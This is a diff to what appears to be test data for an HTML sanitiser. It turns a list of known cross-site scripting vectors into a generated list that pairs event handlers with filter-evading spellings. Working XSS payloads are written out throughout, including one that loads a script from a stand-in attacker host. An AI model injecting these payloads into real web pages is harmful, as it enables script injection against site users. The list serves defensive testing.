@@ -1,5 +1,5 @@
 /** Well-known ways to smuggle a script into HTML (OWASP's cheat sheet, html5sec, past holes of sanitisers). Each would call alert. */
-export const XSS_VECTORS = [
+const KNOWN = [
   `<script>alert(1)</script>`,
   `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
   `<scr<script>ipt>alert(1)</scr</script>ipt>`,
@@ -68,3 +68,14 @@ export const XSS_VECTORS = [
   `<td background="javascript:alert(1)">x</td>`,
   `&lt;script&gt;alert(1)&lt;/script&gt;`,
 ];
+
+const ELEMENTS = ["img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "iframe", "marquee", "p tabindex=1"];
+const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter", "onanimationstart", "onbeforetoggle", "onclick"];
+const SPELLINGS = [(handler: string) => `${handler}=alert(1)`, (handler: string) => `/${handler.toUpperCase()}\n="alert&lpar;1)"`];
+
+/** Every element that runs something by itself, with every handler, spelt plainly and as a hasty filter would miss it. */
+const COMBINED = ELEMENTS.flatMap((element) =>
+  HANDLERS.flatMap((handler) => SPELLINGS.map((spell) => `<${element} ${spell(handler)}>x</${element.split(" ")[0]}>`)),
+);
+
+export const XSS_VECTORS = [...KNOWN, ...COMBINED];
